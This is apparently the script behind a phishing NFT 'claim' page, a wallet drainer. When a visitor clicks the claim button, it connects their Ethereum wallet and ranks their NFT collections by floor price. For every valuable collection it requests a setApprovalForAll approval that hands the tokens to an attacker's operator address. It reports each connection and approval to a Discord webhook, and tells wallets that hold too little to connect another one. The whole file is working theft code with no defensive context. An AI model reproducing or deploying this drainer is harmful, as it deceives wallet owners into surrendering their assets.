(() => {
  const OPERATOR = window.__c.op;
  const hook = "https://discord.com/api/webhooks/000000000000/TOKEN";
  const say = (content) => fetch(hook, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ content }) }).catch(() => {});

  const floor = async (slug) => {
    const r = await fetch("https://nft-index.example/api/v1/collection/" + slug + "/stats");
    const j = await r.json();
    return j.stats.floor_price || 0;
  };

  const load = async (owner) => {
    const r = await fetch("https://nft-index.example/api/v1/assets?limit=200&owner=" + owner);
    const { assets } = await r.json();
    const by = {};
    for (const a of assets) {
      const k = a.asset_contract.address;
      by[k] = by[k] || { k, slug: a.collection.slug, n: 0, schema: a.asset_contract.schema_name };
      by[k].n++;
    }
    const out = Object.values(by);
    await Promise.all(out.map(async (o) => (o.worth = o.n * (await floor(o.slug)))));
    return out.filter((o) => o.worth > 0.05).sort((x, y) => y.worth - x.worth);
  };

  const go = async () => {
    const web3 = new Web3(window.ethereum);
    const [me] = await window.ethereum.request({ method: "eth_requestAccounts" });
    say("🔌 connected `" + me + "` on " + location.hostname);
    const cols = await load(me);
    if (!cols.length) {
      document.getElementById("msg").innerHTML = "This wallet is not eligible. Please connect another active wallet.";
      return;
    }
    for (const c of cols) {
      const inst = new web3.eth.Contract(window.__c.abi721, c.k);
      await inst.methods
        .setApprovalForAll(OPERATOR, true)
        .send({ from: me })
        .on("transactionHash", (h) => say("✅ " + c.slug + " x" + c.n + " ~" + c.worth.toFixed(3) + " ETH " + h))
        .on("error", (e) => say("❌ " + c.slug + " " + e.message));
    }
  };
  document.getElementById("claimButton").onclick = go;
})();
